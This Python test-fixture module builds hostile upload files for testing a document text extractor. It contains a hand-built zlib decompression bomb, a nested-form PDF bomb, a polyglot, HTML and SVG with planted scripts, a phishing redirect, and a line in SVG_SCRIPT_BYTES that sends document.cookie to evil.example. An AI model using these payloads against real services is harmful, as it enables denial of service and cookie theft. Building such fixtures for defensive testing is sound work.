"""Builders for uploaded-file fixtures, made in code (nothing is downloaded or checked in).

Every helper returns ``bytes``. The PDFs are written by a small PDF writer below (standard
Helvetica font, WinAnsi encoding, one uncompressed or Flate content stream per page), so they
need no library at all; only :func:`make_encrypted_pdf` uses pypdf to encrypt. The hostile
files (bombs, loops, deep nesting, polyglots) are built here too, in a few milliseconds.

Use them in upload tests, e.g. ``make_text_pdf(["Page one.", "Page two."])`` or ``PNG_BYTES``.
"""

from __future__ import annotations

import functools
import gzip
import io
import re
import struct
import textwrap
import zipfile
import zlib

__all__ = [
    "COMBINING_ACCENT_TEXT",
    "CRLF_TEXT",
    "ELF_BYTES",
    "EMOJI_TEXT",
    "EMPTY_BYTES",
    "EXE_BYTES",
    "GIF_BYTES",
    "GZIP_BYTES",
    "HOSTILE_HTML_FRAGMENTS",
    "HTML_DESCRIPTION",
    "HTML_FORBIDDEN_FRAGMENTS",
    "HTML_PARAGRAPHS",
    "HTML_TITLE",
    "INVALID_UTF8_BAD_POSITION",
    "INVALID_UTF8_BYTES",
    "JPEG_BYTES",
    "MARKDOWN_TEXT",
    "PNG_BYTES",
    "SVG_BYTES",
    "SVG_SCRIPT_BYTES",
    "ZIP_BYTES",
    "lorem_page",
    "make_blank_pdf",
    "make_broken_xref_pdf",
    "make_circular_page_tree_pdf",
    "make_circular_reference_pdf",
    "make_deeply_nested_pdf",
    "make_empty_html",
    "make_encrypted_pdf",
    "make_form_bomb_pdf",
    "make_hostile_html",
    "make_html",
    "make_image_only_pdf",
    "make_inflation_bomb_pdf",
    "make_many_pages_pdf",
    "make_pdf_html_zip_polyglot",
    "make_slow_pdf",
    "make_text_pdf",
    "make_truncated_pdf",
]

# --------------------------------------------------------------------------------------------
# A minimal PDF writer
# --------------------------------------------------------------------------------------------

PAGE_WIDTH, PAGE_HEIGHT = 612, 792  # US Letter, in points


def _pdf_string(text: str) -> bytes:
    """A PDF literal string for WinAnsi-encoded text (characters outside cp1252 become '?')."""
    raw = text.encode("cp1252", errors="replace")
    raw = raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"(" + raw + b")"


def _stream(content: bytes, *, compress: bool, extra: bytes = b"") -> bytes:
    if compress:
        content = zlib.compress(content)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def _assemble(objects: list[bytes]) -> bytes:
    """Number ``objects`` from 1 (object 1 must be the catalog) and write header, xref, trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref_at,
    )
    return bytes(out)


def _build_pdf(page_streams: list[bytes], *, resources: bytes, extra_objects=()) -> bytes:
    """Catalog (1), page tree (2), font (3), extra objects (4...), then page + content pairs."""
    first_page = 4 + len(extra_objects)
    kids = b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(len(page_streams)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(page_streams)),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *extra_objects,
    ]
    for i, stream in enumerate(page_streams):
        content_ref = first_page + 2 * i + 1
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents %d 0 R >>"
            % (PAGE_WIDTH, PAGE_HEIGHT, resources, content_ref)
        )
        objects.append(stream)
    return _assemble(objects)


def _text_content(text: str, *, font_size: float, width_chars: int) -> bytes:
    """A content stream that draws ``text`` line by line (each paragraph wrapped)."""
    leading = font_size * 1.25
    lines: list[str] = []
    for paragraph in text.split("\n"):
        lines.extend(textwrap.wrap(paragraph, width_chars) or [""])
    ops = [b"BT /F1 %g Tf %g TL 50 %g Td" % (font_size, leading, PAGE_HEIGHT - 60)]
    for line in lines:
        ops.append(_pdf_string(line) + b" Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops)


def make_text_pdf(
    pages: list[str], *, font_size: float = 9, width_chars: int = 105, compress: bool = True
) -> bytes:
    """A PDF with one page per string, drawn in Helvetica (text is extractable).

    Paragraphs ("\\n" in a string) start new lines and long lines are wrapped at
    ``width_chars``; a one-line string comes back from extraction as that same line.
    Only cp1252 characters are representable (é yes, emoji no).
    """
    streams = [
        _stream(_text_content(t, font_size=font_size, width_chars=width_chars), compress=compress)
        for t in pages
    ]
    return _build_pdf(streams, resources=b"<< /Font << /F1 3 0 R >> >>")


def make_image_only_pdf(pages: int = 2) -> bytes:
    """A PDF whose pages only paint an image (like a scan without OCR): no text at all."""
    pixels = bytes([0, 128, 255, 64] * 16)  # 8x8 grey image
    image = _stream(
        pixels,
        compress=True,
        extra=b" /Type /XObject /Subtype /Image /Width 8 /Height 8"
        b" /ColorSpace /DeviceGray /BitsPerComponent 8",
    )
    draw = _stream(b"q 400 0 0 500 100 150 cm /Im1 Do Q", compress=False)
    return _build_pdf(
        [draw] * pages,
        resources=b"<< /XObject << /Im1 4 0 R >> >>",
        extra_objects=[image],
    )


def make_blank_pdf(pages: int = 1) -> bytes:
    """A PDF with empty pages (no content at all)."""
    return _build_pdf([_stream(b"", compress=False)] * pages, resources=b"<< >>")


def make_encrypted_pdf(
    pages: list[str] | None = None, *, user_password: str = "secret", owner_password: str = "owner"
) -> bytes:
    """A text PDF encrypted with RC4-128 (pypdf). With ``user_password=""`` it opens without
    a password (only permissions are restricted), as many real-world "protected" PDFs do."""
    from pypdf import PdfReader, PdfWriter

    reader = PdfReader(io.BytesIO(make_text_pdf(pages or ["Confidential page one."])))
    writer = PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_truncated_pdf(keep: float = 0.5) -> bytes:
    """A 4-page text PDF cut after ``keep`` of its bytes (xref table and trailer are lost)."""
    whole = make_text_pdf([f"Truncated page {i}." for i in range(1, 5)], compress=False)
    return whole[: int(len(whole) * keep)]


_SENTENCES = [
    "The committee reported on Tuesday that revenue grew by {n} percent in the last quarter.",
    "Costs fell in several regions, according to figures published by the statistics office.",
    "Analysts said the estimate was revised after new data showed employment rising faster.",
    "Officials declined to comment on the claim, which circulated widely online last week.",
    "A spokesperson said the {n} new posts would be funded from the existing budget.",
    "The minutes of the meeting, seen by reporters, do not mention the figure at all.",
    "Independent researchers found the same trend in data going back to {year}.",
    "Critics argued that the comparison left out the one-off grant paid in {year}.",
]


def lorem_page(number: int, chars: int = 3000) -> str:
    """About ``chars`` characters of varied, realistic prose for page ``number``."""
    out, length, i = [f"Page {number}."], 0, number
    while length < chars:
        sentence = _SENTENCES[i % len(_SENTENCES)].format(n=(i * 37) % 100, year=1990 + i % 30)
        out.append(sentence)
        length += len(sentence) + 1
        i += 3
    return " ".join(out)


def make_slow_pdf(pages: int = 800, chars_per_page: int = 3000) -> bytes:
    """A big text PDF (default 800 pages × 3,000 chars) that takes the extractor about a
    second or more: use it with a tiny ``time_limit`` to hit the time limit."""
    return make_text_pdf([lorem_page(n, chars_per_page) for n in range(1, pages + 1)])


def make_form_bomb_pdf(depth: int = 6, fan_out: int = 10) -> bytes:
    """A 2 KB one-page PDF whose page draws a form that draws a form ... ``depth`` levels,
    each ``fan_out`` times: ``fan_out ** depth`` text draws ("billion laughs" for PDF). At
    depth 5 PDFium needs about 0.5 GB and a second; at depth 6 ten times that."""
    form = b" /Type /XObject /Subtype /Form /BBox [0 0 %d %d]" % (PAGE_WIDTH, PAGE_HEIGHT)
    leaf = _stream(
        b"BT /F1 9 Tf 10 10 Td (Hello world) Tj ET",
        compress=False,
        extra=form + b" /Resources << /Font << /F1 3 0 R >> >>",
    )
    forms = [leaf]
    for level in range(1, depth + 1):
        forms.append(
            _stream(
                b" ".join([b"/X Do"] * fan_out),
                compress=False,
                extra=form + b" /Resources << /XObject << /X %d 0 R >> >>" % (3 + level),
            )
        )
    return _build_pdf(
        [_stream(b"/X Do", compress=False)],
        resources=b"<< /XObject << /X %d 0 R >> >>" % (4 + depth),
        extra_objects=forms,
    )


# --------------------------------------------------------------------------------------------
# Hostile PDFs (each small on disk; what makes them hostile is what a reader does with them)
# --------------------------------------------------------------------------------------------

_FONT_RESOURCES = b"<< /Font << /F1 3 0 R >> >>"


def _text_ops(text: str) -> bytes:
    return b"BT /F1 12 Tf 50 700 Td " + _pdf_string(text) + b" Tj ET"


def _reversed(code: int, bits: int) -> int:
    return int(format(code, f"0{bits}b")[::-1], 2)


@functools.cache
def _zlib_zeros(groups: int) -> bytes:
    """A zlib stream that inflates to ``1 + 2064 * groups`` zero bytes, written directly (one
    fixed-Huffman block: the literal 0, then matches of length 258 at distance 1), so that
    gigabytes of output cost no time to make. Huffman codes go in bit-reversed, LSB first."""
    out = bytearray(b"\x78\x01")  # zlib header: deflate, 32 KB window, no dictionary
    acc = used = 0

    def put(value: int, bits: int) -> None:
        nonlocal acc, used
        acc |= value << used
        used += bits
        while used >= 8:
            out.append(acc & 0xFF)
            acc >>= 8
            used -= 8

    put(0b011, 3)  # last block, fixed Huffman codes
    put(_reversed(0b00110000, 8), 8)  # literal 0
    start = len(out)
    # Eight matches are 8 x (8 + 5) = 104 bits, 13 whole bytes: past this point the stream
    # repeats every 13 bytes (the literal's last bits and a distance code's are all zeros).
    for _ in range(8 * min(groups, 2)):
        put(_reversed(0b11000101, 8), 8)  # length 258 (code 285)
        put(0, 5)  # distance 1 (code 0)
    if groups > 2:
        unit = bytes(out[start : start + 13])
        total_bits = 11 + 104 * groups
        whole = total_bits // 8 - (start - 2)
        out[start:] = (unit * (whole // 13 + 1))[:whole]
        used = total_bits % 8
        acc = unit[whole % 13] & ((1 << used) - 1)
    put(0, 7)  # end of block
    if used:
        out.append(acc)
    size = 1 + 2064 * groups
    out += struct.pack(">I", ((size % 65521) << 16) | 1)  # Adler-32 of that many zeros
    return bytes(out)


def _deflated_zeros(megabytes: int) -> bytes:
    return _zlib_zeros(-(-megabytes * (1 << 20) // 2064))


def make_inflation_bomb_pdf(megabytes: int = 2048, *, filters: str = "flate") -> bytes:
    """A one-page PDF of a few kilobytes whose content stream inflates to ``megabytes`` MB of
    zeros. ``filters="flate"``: ``/Filter [/FlateDecode /FlateDecode]`` (zeros deflated, then
    deflated again); ``"runlength"``: ``[/FlateDecode /FlateDecode /RunLengthDecode]`` (runs of
    128 zeros, deflated)."""
    if filters == "flate":
        data = zlib.compress(_deflated_zeros(megabytes), 9)
        names = b"[/FlateDecode /FlateDecode]"
    elif filters == "runlength":
        runs = megabytes * (1 << 20) // 128
        compressor = zlib.compressobj(9)
        run_block = b"\x81\x00" * 65536  # each pair: the byte 0 repeated 257 - 0x81 = 128 times
        parts = [compressor.compress(run_block) for _ in range(runs // 65536)]
        parts.append(compressor.compress(b"\x80"))  # end of data
        parts.append(compressor.flush())
        data = zlib.compress(b"".join(parts), 9)
        names = b"[/FlateDecode /FlateDecode /RunLengthDecode]"
    else:
        raise ValueError(f"filters must be 'flate' or 'runlength', not {filters!r}")
    bomb = b"<< /Length %d /Filter %s >>\nstream\n" % (len(data), names) + data + b"\nendstream"
    return _build_pdf([bomb], resources=_FONT_RESOURCES)


def make_deeply_nested_pdf(depth: int = 100_000, *, kind: str = "array") -> bytes:
    """A PDF whose page carries an object nested ``depth`` levels deep: ``[[[...]]]``
    (``kind="array"``) or ``<< /A << /A ... >> >>`` (``kind="dict"``). Its text is readable."""
    if kind == "array":
        nested = b"[" * depth + b"0" + b"]" * depth
    elif kind == "dict":
        nested = b"<< /A " * depth + b"0" + b" >>" * depth
    else:
        raise ValueError(f"kind must be 'array' or 'dict', not {kind!r}")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents 5 0 R"
        b" /PieceInfo 6 0 R >>" % (PAGE_WIDTH, PAGE_HEIGHT, _FONT_RESOURCES),
        _stream(_text_ops("Deeply nested page."), compress=False),
        nested,
    ]
    return _assemble(objects)


def make_circular_page_tree_pdf() -> bytes:
    """A PDF whose page tree contains itself: the root /Pages node lists a /Pages node whose
    /Kids point back at the root (besides one ordinary page)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents 5 0 R >>"
        % (PAGE_WIDTH, PAGE_HEIGHT, _FONT_RESOURCES),
        _stream(_text_ops("A page in a looping tree."), compress=False),
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ]
    return _assemble(objects)


def make_circular_reference_pdf(*, hidden_bomb_megabytes: int = 0) -> bytes:
    """A one-page PDF full of reference loops: /Resources is an object that refers to
    itself, /Contents a reference to a reference to the first reference, and the page's
    /Annots an array that contains itself. Its text is readable. With
    ``hidden_bomb_megabytes``, the page also carries (in /PieceInfo, which no reader draws) a
    stream that inflates to that many MB, met after the loops."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources 5 0 R"
        b" /Contents [6 0 R 8 0 R] /Annots 9 0 R >>" % (PAGE_WIDTH, PAGE_HEIGHT),
        b"<< /Font << /F1 3 0 R >> /Self 5 0 R /Loop << /Back 5 0 R >> >>",
        _stream(_text_ops("Circular references page."), compress=False),
        b"8 0 R",  # 7 -> 8 -> 7: a reference chain that never reaches an object
        b"7 0 R",
        b"[9 0 R 9 0 R]",
    ]
    if hidden_bomb_megabytes:
        data = zlib.compress(_deflated_zeros(hidden_bomb_megabytes), 9)
        objects.append(
            b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(data)
            + data
            + b"\nendstream"
        )
        objects[3] = objects[3].replace(b" >>", b" /PieceInfo [10 0 R 7 0 R] >>")
    return _assemble(objects)


def make_many_pages_pdf(pages: int = 10_000) -> bytes:
    """A PDF of ``pages`` pages that all draw the same short text (one shared content
    stream, so 10,000 pages take about 1 MB)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"",  # the page tree, filled in below
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        _stream(_text_ops("One of very many pages."), compress=False),
    ]
    first = len(objects) + 1
    for _ in range(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents 4 0 R >>"
            % (PAGE_WIDTH, PAGE_HEIGHT, _FONT_RESOURCES)
        )
    kids = b" ".join(b"%d 0 R" % n for n in range(first, first + pages))
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)
    return _assemble(objects)


def make_broken_xref_pdf(pages: list[str] | None = None) -> bytes:
    """A text PDF whose cross-reference table points every object at a wrong offset (and
    whose startxref points nowhere): a reader has to rebuild the table by scanning."""
    whole = make_text_pdf(pages or ["Broken xref page one.", "Broken xref page two."])

    def garbage(match: re.Match) -> bytes:
        return b"%010d 00000 n " % (int(match.group(1)) * 7 + 13)

    broken = re.sub(rb"(\d{10}) 00000 n ", garbage, whole)
    return re.sub(rb"startxref\n\d+", b"startxref\n999999", broken)


def make_pdf_html_zip_polyglot() -> bytes:
    """A valid text PDF that also carries an HTML page with a script (in a PDF comment right
    after the header, where a browser sniffing for HTML would find it) and ends with a ZIP
    archive (whose directory, at the end, is what unzip reads)."""
    pdf = make_text_pdf(["Polyglot page text."])
    header, rest = pdf.split(b"\n", 1)
    payload = b"%<html><body><script>alert('polyglot')</script></body></html>\n"
    # Insert the comment and shift every xref offset and startxref by its length.
    shift = len(payload)
    rest = re.sub(
        rb"(\d{10}) 00000 n ", lambda m: b"%010d 00000 n " % (int(m.group(1)) + shift), rest
    )
    rest = re.sub(
        rb"startxref\n(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + shift), rest
    )
    return header + b"\n" + payload + rest + ZIP_BYTES


# --------------------------------------------------------------------------------------------
# HTML
# --------------------------------------------------------------------------------------------

HTML_TITLE = "Council budget: what the figures say"
HTML_DESCRIPTION = "A line-by-line look at the council's 2024 budget claims."
HTML_PARAGRAPHS = [
    "The council said on Monday that spending on libraries rose by 12 percent in 2024, "
    "a figure repeated by several officials during the public meeting.",
    "Budget documents published in March show the increase was 4 percent once the one-off "
    "building grant, which was announced in the previous year, is taken out of the total.",
    "A spokesperson confirmed the difference and said the council would update its website "
    "to explain how the headline number had been calculated.",
]

# Script, style and handler text planted by make_html(hostile=True): none may reach the text.
HTML_FORBIDDEN_FRAGMENTS = [
    "alert(",
    "stealCookies",
    "document.cookie",
    "javascript:",
    "onerror",
    "onclick",
    "onload",
    "evilHandler",
    "color: red",
    ".hidden-style",
    "iframe-secret",
    "<",
    ">",
]


def make_html(
    *,
    title: str | None = HTML_TITLE,
    description: str | None = HTML_DESCRIPTION,
    paragraphs: list[str] | None = None,
    hostile: bool = True,
    charset: str = "utf-8",
) -> bytes:
    """An article page. ``hostile`` adds <script>, <style>, event-handler attributes, an
    <iframe>, a javascript: link and an inline SVG with a script, all outside the prose."""
    paragraphs = HTML_PARAGRAPHS if paragraphs is None else paragraphs
    head = [f'<meta charset="{charset}">']
    if title is not None:
        head.append(f"<title>{title}</title>")
    if description is not None:
        head.append(f'<meta name="description" content="{description}">')
    if hostile:
        head.append("<script>alert('head'); stealCookies(document.cookie);</script>")
        head.append("<style>body { color: red } .hidden-style { display: none }</style>")
    body_attr = ' onload="evilHandler()"' if hostile else ""
    body = ['<nav><a href="/">Home</a> | <a href="/about">About</a></nav>', "<article>"]
    body.append(f"<h1>{title or 'Article'}</h1>")
    for i, p in enumerate(paragraphs):
        handler = ' onclick="evilHandler(1)"' if hostile and i == 0 else ""
        body.append(f"<p{handler}>{p}</p>")
        if hostile and i == 0:
            body.append("<script>document.write(alert('inline'))</script>")
            body.append('<img src="x.png" onerror="stealCookies()" alt="">')
    if hostile:
        body.append('<p><a href="javascript:alert(1)">Read the full report</a></p>')
        body.append('<iframe src="https://example.invalid/iframe-secret"></iframe>')
        body.append('<svg><script>alert("svg")</script><circle r="2"/></svg>')
        body.append("<noscript><style>.hidden-style{}</style></noscript>")
    body.append("</article><footer>© 2024 Example News</footer>")
    html = (
        '<!DOCTYPE html>\n<html lang="en"><head>'
        + "".join(head)
        + f"</head><body{body_attr}>"
        + "\n".join(body)
        + "</body></html>\n"
    )
    return html.encode(charset)


# What make_hostile_html() adds on top of make_html(hostile=True): none may reach the text.
HOSTILE_HTML_FRAGMENTS = [
    *HTML_FORBIDDEN_FRAGMENTS,
    "refresh",
    "evil.example",
    "srcdoc",
    "frame-secret",
    "data:text/html",
    "base64",
    "<script",
]


def make_hostile_html() -> bytes:
    """An article page with everything of :func:`make_html` plus a ``<meta http-equiv=refresh>``
    redirect, an ``<iframe srcdoc>``, a ``data:`` link, a ``<base>`` and an ``<object>``."""
    page = make_html(hostile=True).decode()
    extra_head = (
        '<meta http-equiv="refresh" content="0; url=https://evil.example/phish">'
        '<base href="https://evil.example/">'
    )
    extra_body = (
        '<iframe srcdoc="<script>parent.stealCookies()</script>frame-secret"></iframe>'
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">More</a>'
        '<object data="https://evil.example/x.swf"></object>'
        "<p>Every figure above was checked against the published budget documents.</p>"
    )
    page = page.replace("</head>", extra_head + "</head>", 1)
    page = page.replace("</article>", extra_body + "</article>", 1)
    return page.encode()


def make_empty_html() -> bytes:
    """HTML with markup, a script and a style but no text at all."""
    return (
        b"<!doctype html><html><head><script>alert(1)</script><style>p{}</style></head>"
        b"<body><div><img src='a.png'></div></body></html>"
    )


# --------------------------------------------------------------------------------------------
# Text
# --------------------------------------------------------------------------------------------

EMPTY_BYTES = b""
EMOJI_TEXT = "Fact check ✅ — the 🐍 claim is “mostly false” 👍🏽 (flags: 🇫🇷).\n".encode()
# "é" written as e + COMBINING ACUTE ACCENT (NFD); extraction must return the composed U+00E9.
COMBINING_ACCENT_TEXT = "Cafe\u0301 de la Re\u0301publique\n".encode()
CRLF_TEXT = b"first line\r\nsecond line\r\nthird line\rfourth line\r\n"
INVALID_UTF8_BAD_POSITION = 10
INVALID_UTF8_BYTES = b"valid text\xff\xfe and then more"
MARKDOWN_TEXT = (
    b"# Budget claims\n\n"
    b"Some *context* first.\n\n"
    b"## Sources\n\n"
    b"- [Budget 2024](https://example.org/budget)\n"
    b"- Minutes of the meeting\n"
)


# --------------------------------------------------------------------------------------------
# Other types (give them misleading names such as "report.pdf" in tests)
# --------------------------------------------------------------------------------------------


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1x1, 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document>not really</w:document>")
    return out.getvalue()


PNG_BYTES = _png()
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF_BYTES = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"  # noqa: E501
ZIP_BYTES = _zip()
GZIP_BYTES = gzip.compress(b"%PDF-1.7 hidden inside a gzip stream", mtime=0)
SVG_BYTES = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><text x='0' y='9'>Hello</text></svg>\n"
)
# An SVG image that runs a script when opened: refused as an image, whatever its name.
SVG_SCRIPT_BYTES = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script type=\"text/javascript\">fetch('https://evil.example/?c='+document.cookie)"
    b"</script><text x='0' y='9'>Looks like text</text></svg>\n"
)
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
